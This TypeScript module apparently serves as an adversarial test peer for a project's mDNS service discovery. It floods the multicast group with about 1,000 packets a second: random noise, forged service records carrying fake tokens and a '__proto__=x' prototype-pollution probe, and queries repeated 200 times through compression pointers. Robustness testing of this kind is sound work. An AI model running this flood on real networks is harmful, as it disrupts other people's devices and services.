/**
 * A host that is out to harm whoever listens to mDNS: as many packets as it can, of random bytes, of made-up members with wrong
 * tokens, and of queries that ask the same question some two hundred times.
 */
import { createSocket } from 'node:dgram';
import { randomBytes, randomInt } from 'node:crypto';

const GROUP = '224.0.0.251';
const TYPE = { ptr: 12, txt: 16, srv: 33 } as const;
const SERVICE = name('_waggle._udp.local');

function name(dotted: string): Buffer {
  const labels = dotted.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  return Buffer.concat([...labels, Buffer.from([0])]);
}
function u16(...values: number[]): Buffer {
  const out = Buffer.alloc(values.length * 2);
  values.forEach((value, i) => out.writeUInt16BE(value, i * 2));
  return out;
}
function answer(owner: Buffer, type: number, data: Buffer): Buffer {
  return Buffer.concat([owner, u16(type, 1, 0, 120, data.byteLength), data]);
}
function text(value: string): Buffer {
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
}

function madeUpMembers(): Buffer {
  const answers = Array.from({ length: 4 }, () => {
    const owner = name(`${randomBytes(8).toString('hex')}._waggle._udp.local`);
    const words = [
      'v=1',
      `s=${randomBytes(16).toString('hex')}`,
      `k=${randomBytes(32).toString('hex')}`,
      '__proto__=x',
    ];
    const srv = Buffer.concat([u16(0, 0, randomInt(65_536)), name('victim.local')]);
    return [
      answer(SERVICE, TYPE.ptr, owner),
      answer(owner, TYPE.srv, srv),
      answer(owner, TYPE.txt, Buffer.concat(words.map(text))),
    ];
  }).flat();
  return Buffer.concat([u16(0, 0x84_00, 0, answers.length, 0, 0), ...answers]);
}

function repeatedQuestion(): Buffer {
  const first = Buffer.concat([SERVICE, u16(TYPE.ptr, 1)]);
  const again = u16(0xc0_0c, TYPE.ptr, 1); // a pointer to the first name
  return Buffer.concat([u16(0, 0, 200, 0, 0, 0), first, ...Array.from({ length: 199 }, () => again)]);
}

function noise(): Buffer {
  const packet = randomBytes(randomInt(1, 1_400));
  if (packet.byteLength > 12) u16(0, randomInt(2) * 0x84_00, 3, 3, 3, 3).copy(packet);
  return packet;
}

/** Until the process ends; some 1,000 packets a second. Tells now and then how many packets others have sent since. */
export function floodMdns(address: string, onHeard: (packets: number) => void): void {
  let heard = 0;
  const socket = createSocket({ type: 'udp4', reuseAddr: true });
  socket.on('error', () => undefined);
  socket.on('message', (_packet, from) => {
    if (from.address !== address) heard++;
  });
  setInterval(() => onHeard(heard), 200);
  socket.bind(5353, () => {
    socket.addMembership(GROUP, address);
    socket.setMulticastInterface(address);
    setInterval(() => {
      for (const packet of [madeUpMembers(), repeatedQuestion(), noise(), madeUpMembers(), noise()])
        socket.send(packet, 5353, GROUP);
    }, 5);
  });
}
